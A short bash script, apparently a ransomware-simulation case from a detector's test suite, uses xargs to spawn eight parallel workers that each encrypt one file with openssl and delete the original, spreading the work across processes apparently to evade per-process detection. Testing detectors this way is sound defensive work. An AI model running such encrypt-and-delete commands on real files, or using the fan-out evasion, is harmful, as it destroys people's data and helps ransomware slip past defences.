#!/usr/bin/env bash
# Multi-process fan-out: xargs starts one worker process per file, eight at
# a time; each worker (sh) encrypts its file with openssl to X.enc and
# unlinks X. No single process does more than one file.
. "$(dirname "$0")/attack-lib.sh"
destructive
attempted=${#FILES[@]}
printf '%s\0' "${FILES[@]}" | timeout "$MAX_SECONDS" xargs -0 -n 1 -P 8 sh -c '
	openssl enc -aes-256-ctr -pbkdf2 -iter 1000 -pass pass:medguard -in "$1" -out "$1.enc" && rm -f "$1"' worker
